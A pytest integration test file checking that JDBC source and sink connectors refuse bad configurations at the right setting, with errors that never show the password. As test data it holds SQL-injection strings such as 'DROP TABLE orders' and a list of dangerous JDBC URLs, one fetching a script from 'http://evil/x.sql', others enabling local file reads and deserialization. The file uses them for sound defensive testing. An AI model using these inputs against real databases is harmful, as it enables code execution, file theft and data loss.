"""What is wrong with a config, found by asking a real database before anything moves: each names its setting, and no password."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from airflow_provider_connect.connectors.jdbc.sink.connector import JdbcSinkConnector
from airflow_provider_connect.connectors.jdbc.source.connector import JdbcSourceConnector
from airflow_provider_connect.data.schema import INT64_SCHEMA, STRING_SCHEMA, Schema
from airflow_provider_connect.errors import ConfigException, ConnectException
from airflow_provider_connect.runtime.config.worker_settings import WorkerSettings
from airflow_provider_connect.runtime.plugins.probe import PluginProbe
from airflow_provider_connect.sdk.connector import Connector
from tests.integration.jdbc.sinks import UPSERT, Sink, TargetDatabase
from tests.integration.jdbc.sources import Source
from tests.integration.worker.test_jdbc_source import polled, started
from tests.reaching import reaching

DATABASES = ("postgresql", "mariadb", "sqlite")
TIMES = {"postgresql": "timestamptz", "mariadb": "datetime(6)", "sqlite": "TIMESTAMP"}
ODD = "x\"'`; DROP TABLE orders); --"
SOURCE: dict[tuple[str, str], dict[str, str]] = {
    ("table.include", "no such table"): {"table.include": "orders,none"},
    ("table.include", r"no such table.*There are: .*orders"): {"table.include": "orders; DROP TABLE orders"},
    ("incrementing.column.name", "no such column in table .*orders. Its columns are: id, word, at"): {"incrementing.column.name": "number"},
    ("incrementing.column.name", "no such column"): {"incrementing.column.name": ODD},
    ("incrementing.column.name", "Column id of table .*odd is of type .*char. Name a column of growing whole"): {"table.include": "odd"},
    ("incrementing.column.name", "Column id of table .*loose may be null.*validate.non.null"): {"table.include": "loose"},
    ("timestamp.column.name", "no such column in table .*orders"): {"mode": "timestamp", "timestamp.column.name": "changed"},
    ("timestamp.column.name", "Column at of table .*odd is of type date. Name a"): {"mode": "timestamp", "table.include": "odd"},
    ("timestamp.column.name", "Column changed of table .*odd may be null.*Declare it NOT NULL"): {
        "mode": "timestamp",
        "table.include": "odd",
        "timestamp.column.name": "changed",
    },
    ("timestamp.column.name", "is of type .*int"): {"mode": "timestamp+incrementing", "timestamp.column.name": "id"},
    ("query", "[Ss]yntax|SYNTAX"): {"table.include": "", "query": "SELECT id FROM orders; DROP TABLE orders"},
    ("query", "no such table|exist"): {"table.include": "", "query": "SELECT id FROM none"},
    ("incrementing.column.name", "no such column in the query"): {"table.include": "", "query": "SELECT 1 AS one"},
}
UPSERT_BY_VALUE = {"insert.mode": "upsert", "pk.mode": "record_value", "pk.fields": "id"}
SINK: dict[tuple[str, str], dict[str, str]] = {
    ("auto.create", "There is no table .*none for topic orders. Create it, or set auto.create to true"): {"table.name.format": "none"},
    ("auto.create", "There is no table"): {"table.name.format": ODD.replace(".", "")},
    ("pk.fields", "Table .*orders has no column key. It has: id, word, at"): {**UPSERT_BY_VALUE, "pk.fields": "key"},
    ("pk.fields", "has no column"): {**UPSERT_BY_VALUE, "pk.fields": ODD},
    ("fields.whitelist", "Table .*orders has no column more. Add it"): {"fields.whitelist": "more"},
    ("pk.mode", "insert.mode=upsert needs a primary key"): {"insert.mode": "upsert"},
}
DANGERS = {
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'": "INIT can run code",
    "jdbc:mysql://ann:topsecret@127.0.0.1/x?allowLoadLocalInfile=true": "allowLoadLocalInfile can read files of the worker",
    "jdbc:mariadb://ann:topsecret@127.0.0.1/x?autoDeserialize=true": "autoDeserialize can run code",
    "jdbc:postgresql://127.0.0.1/x?user=ann&password=topsecret&socketFactory=a.B": "socketFactory can run code",
    "postgresql://ann:topsecret@127.0.0.1/x?options=-csession_preload_libraries=x": "options can run code",
    "jdbc:sqlite:/tmp/x.db?enable_load_extension=true": "enable_load_extension can run code",
}


@pytest.fixture(scope="module")
def probe() -> Iterator[PluginProbe]:
    with PluginProbe(WorkerSettings.of({})) as probe:
        yield probe


@pytest.fixture(params=DATABASES)
def orders(request: pytest.FixtureRequest) -> TargetDatabase:
    """Three tables: one that any mode can read, one without a number, one whose number may be null."""
    target: TargetDatabase = request.getfixturevalue(f"{request.param}_target")
    time = TIMES[target.dialect]
    integer = "INTEGER" if target.dialect == "sqlite" else "bigint"
    target.run(
        f"CREATE TABLE orders (id {integer} PRIMARY KEY, word varchar(9), at {time} NOT NULL)",
        f"CREATE TABLE odd (id varchar(9) NOT NULL PRIMARY KEY, at date NOT NULL, changed {time} NULL)",
        "CREATE TABLE loose (id int NULL, word varchar(9))",
    )
    return target


def source(target: TargetDatabase, **more: str) -> dict[str, str]:
    own = {"connection.url": target.url, "mode": "incrementing", "incrementing.column.name": "id", "timestamp.column.name": "at"}
    schema = target.url.rpartition("currentSchema=")[2] if target.dialect == "postgresql" else "%"
    return {**own, "topic.prefix": "shop-", "schema.pattern": schema, "table.include": "orders", **more}


def sink(target: TargetDatabase, **more: str) -> dict[str, str]:
    return {"connection.url": target.url, "topics": "orders", **more}


def refused(connector: Connector, config: dict[str, str], key: str, words: str) -> None:
    """The config is refused by the error for ``key``, in the way of Connect."""
    with pytest.raises(ConfigException) as raised:
        connector.check(config)
    message = raised.value.message
    assert re.search(rf"for configuration {re.escape(key)}: (.|\n)*{words}", message), message
    assert "topsecret" not in message


def test_a_source_is_refused(orders: TargetDatabase) -> None:
    reaching(JdbcSourceConnector()).check(source(orders))
    for (key, words), change in SOURCE.items():
        more = dict(change)
        if orders.dialect == "postgresql" and "query" in more:
            more["query"] = more["query"].replace("orders", f"{orders.url.rpartition('=')[2]}.orders")
        refused(reaching(JdbcSourceConnector()), source(orders, **more), key, words)
    assert orders.rows("SELECT count(*) FROM orders") == [(0,)]


def test_a_sink_is_refused(orders: TargetDatabase) -> None:
    reaching(JdbcSinkConnector()).check(sink(orders, **UPSERT_BY_VALUE))
    for (key, words), change in SINK.items():
        refused(reaching(JdbcSinkConnector()), sink(orders, **change), key, words)
    assert orders.rows("SELECT count(*) FROM orders") == [(0,)]


@pytest.mark.parametrize("connector", [JdbcSourceConnector, JdbcSinkConnector])
@pytest.mark.parametrize("dialect", ["postgresql", "mariadb"])
def test_wrong_passwords_databases_and_hosts_are_distinguished(
    request: pytest.FixtureRequest, dialect: str, connector: type[Connector]
) -> None:
    target: TargetDatabase = request.getfixturevalue(f"{dialect}_target")
    start = {"postgresql": "CREATE ROLE locked LOGIN PASSWORD 'right'", "mariadb": "CREATE USER locked IDENTIFIED BY 'right'"}[dialect]
    target.run(f"DROP {'ROLE' if dialect == 'postgresql' else 'USER'} IF EXISTS locked", start)
    config = source(target) if connector is JdbcSourceConnector else sink(target)
    words = "127.0.0.1:.* refuses user 'locked'.*Set connection.user and connection.password to those of a user that may log in"
    refused(connector(), {**config, "connection.user": "locked", "connection.password": "topsecret"}, "connection.password", words)
    inside = re.sub("//(connect@)?", "//locked:topsecret@", target.url)
    own_keys, in_url = "connection.user and connection.password", "the user and password in connection.url"
    refused(connector(), {**config, "connection.url": inside}, "connection.url", words.replace(own_keys, in_url))
    name = re.sub(r"/(postgres|test_\w+)(?=$|\?)", "/none", target.url)
    refused(connector(), {**config, "connection.url": name}, "connection.url", "There is no such database: .*none")


@pytest.mark.parametrize("connector", [JdbcSourceConnector, JdbcSinkConnector])
def test_a_file_that_is_not_there_is_not_made(sqlite_target: TargetDatabase, connector: type[Connector]) -> None:
    config = source(sqlite_target) if connector is JdbcSourceConnector else sink(sqlite_target)
    url = sqlite_target.url.replace("database.db", "none/none.db")
    refused(reaching(connector()), {**config, "connection.url": url}, "connection.url", "There is no such database")


@pytest.mark.parametrize("connector", [JdbcSourceConnector, JdbcSinkConnector])
@pytest.mark.parametrize("url", DANGERS)
def test_an_address_that_could_run_code_is_refused_at_its_key(sqlite_target: TargetDatabase, connector: type[Connector], url: str) -> None:
    """Both where REST asks, and before a run."""
    config = {**(source(sqlite_target) if connector is JdbcSourceConnector else sink(sqlite_target)), "connection.url": url}
    errors = {value.name: value.errors for value in connector().validate(config) if value.errors}
    assert list(errors) == ["connection.url"]
    assert re.search(DANGERS[url], errors["connection.url"][0])
    refused(connector(), config, "connection.url", DANGERS[url])


def test_names_stay_names(orders: TargetDatabase) -> None:
    """A table and columns called like statements are just that, for a sink and for a source."""
    table, more = ODD.replace(".", ""), f"{ODD} more"
    fields = {"id": INT64_SCHEMA, ODD: STRING_SCHEMA.as_optional()}
    task = Sink(orders, {**UPSERT, "table.name.format": table, "delete.enabled": "true", "auto.evolve": "true"})
    task.put([{"id": 1, ODD: "one"}, {"id": 2, ODD: "two"}], Schema.struct(fields), keys=[{"id": 1}, {"id": 2}])
    task.put([{"id": 3, ODD: "three", more: ODD}], Schema.struct({**fields, more: STRING_SCHEMA.as_optional()}), keys=[{"id": 3}])
    task.put_deletes(2)
    task.commit()
    task.end()
    config = source(orders, **{"table.include": "", "table.exclude": "orders,odd,loose,connect_sink_offsets"})
    rows = [row for page in polled(started(config)) if page.value is not None for row in page.value.to_pylist()]
    assert rows == [{"id": 1, ODD: "one", more: None}, {"id": 3, ODD: "three", more: ODD}]
    assert orders.rows("SELECT count(*) FROM orders") == [(0,)]
    unquoted = {**config, "quote.sql.identifiers": "never"}
    refused(reaching(JdbcSourceConnector()), unquoted, "quote.sql.identifiers", "The name .* needs quotes. Set it to always")


@pytest.mark.parametrize(("rows", "number"), [("(1), (2), (2)", 2), ("(1), (1), (2)", 1)])
def test_numbers_that_do_not_grow_are_refused_before_a_row_goes_on(orders: TargetDatabase, rows: str, number: int) -> None:
    orders.run("CREATE TABLE doubled (id bigint NOT NULL)", f"INSERT INTO doubled VALUES {rows}")
    task = started(source(orders, **{"table.include": "doubled", "batch.max.rows": "1"}))
    with pytest.raises(ConnectException, match=rf"Column id of table .*doubled \(incrementing.column.name\) .*: {number} is there twice"):
        task.poll()
    task.stop()


@pytest.mark.parametrize(
    ("plugin", "change", "key"),
    [
        ("JdbcSource", {"connection.url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"}, "connection.url"),
        ("JdbcSource", {"connection.url": "jdbc:mysql://ann:topsecret@db/x?allowLoadLocalInfile=true"}, "connection.url"),
        ("JdbcSource", {"connection.url": "postgresql://ann:topsecret@half@db/x"}, "connection.url"),
        ("JdbcSource", {"incrementing.column.name": ""}, "incrementing.column.name"),
        ("JdbcSource", {"mode": "timestamp"}, "timestamp.column.name"),
        ("JdbcSource", {"mode": "newest"}, "mode"),
        ("JdbcSource", {"query": "SELECT 1", "table.include": "orders"}, "query"),
        ("JdbcSink", {"connection.url": "jdbc:mariadb://ann:topsecret@db/x?autoDeserialize=true"}, "connection.url"),
        ("JdbcSink", {"insert.mode": "upsert"}, "pk.mode"),
        ("JdbcSink", {"delete.enabled": "true"}, "delete.enabled"),
        ("JdbcSink", {"table.name.pattern": "("}, "table.name.pattern"),
    ],
)
def test_rest_hangs_what_is_wrong_on_its_key(probe: PluginProbe, plugin: str, change: dict[str, str], key: str) -> None:
    """As ``PUT /connector-plugins/{plugin}/config/validate`` asks: in a process of its own, and without the database."""
    config = {
        "connector.class": plugin,
        "name": "x",
        "connection.url": "jdbc:postgresql://127.0.0.1:1/x",
        "connection.password": "topsecret",
    }
    config |= (
        {"mode": "incrementing", "incrementing.column.name": "id", "topic.prefix": "t-"} if plugin == "JdbcSource" else {"topics": "t"}
    )
    assert probe.validate(plugin, config).error_count == 0
    errors = {value.name: value.errors for _, value in probe.validate(plugin, config | change).configs if value.errors}
    assert list(errors) == [key]
    assert all(f"for configuration {key}: " in error and "topsecret" not in error for error in errors[key])


def test_a_text_that_the_driver_cannot_read_is_named_with_its_table(mariadb_target: TargetDatabase) -> None:
    """The driver's own exception is no error of its database, and would be a Python text alone."""
    mariadb_target.run("CREATE TABLE words (id int PRIMARY KEY, word varchar(9) CHARACTER SET latin1)")
    mariadb_target.run("INSERT INTO words VALUES (1, 'a'), (2, _latin1 x'81')")
    target = TargetDatabase(f"{mariadb_target.url}?charset=latin1", "mariadb")
    said = r"Reading table \S*words: The driver of mariadb://\S* cannot decode .*UnicodeDecodeError"
    with pytest.raises(ConnectException, match=said) as raised:
        Source(target, {"mode": "bulk"}).run()
    assert not raised.value.retriable
